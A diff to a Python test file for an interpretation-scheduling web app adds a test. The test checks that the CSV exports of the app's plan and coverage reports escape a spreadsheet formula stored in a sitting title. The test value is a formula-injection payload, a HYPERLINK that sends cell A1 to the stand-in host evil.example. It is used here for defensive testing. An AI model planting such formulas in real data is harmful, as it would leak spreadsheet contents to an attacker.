@@ -239,3 +239,14 @@ def test_the_page_explains_the_rules_with_the_figures_of_the_rules(
     text = officer_client.get(PAGE).text
 
     assert "need 15 interpreters per sitting" in text and "up to 4 hours" in text
+
+
+def test_the_plan_and_coverage_csv_write_a_formula_in_a_title_as_text(officer_client, session):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    session.sittings.update(title=formula)
+    registration_services.approve(register(session, listening_language="fr"), actor=None)
+
+    for what in ("plan", "coverage"):
+        response = officer_client.get(f"/sessions/ieg/interpretation/{what}.csv")
+        rows = list(csv.reader(io.StringIO(response.content.decode())))
+        assert rows[1][0] == "'" + formula
